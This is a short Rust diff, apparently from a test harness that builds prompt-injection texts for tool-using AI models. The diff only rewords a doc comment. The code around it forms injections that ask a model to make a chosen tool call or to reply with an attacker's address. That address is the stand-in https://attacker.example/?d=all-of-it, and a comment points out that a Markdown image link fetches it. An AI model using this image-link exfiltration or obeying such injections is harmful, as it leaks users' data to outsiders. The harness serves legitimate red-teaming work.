@@ -16,8 +16,8 @@ pub(super) fn of_call(form: &InjectionForm, tool: &DescribedTool, arguments: &Ma
     form.text(&WantedCall { request: &request, tool: &tool.tool.name, arguments })
 }
 
-/// Returns the injection of a form for replies: it asks for an address of the attacker in the reply. Also returns the
-/// address.
+/// Returns the injection of a form for replies, which asks for a reply with an address of the attacker. Also returns
+/// the address.
 pub(super) fn of_reply(form: &InjectionForm) -> (String, &'static str) {
     let address = "https://attacker.example/?d=all-of-it";
     // In Markdown, `!` before a link makes an image of it.
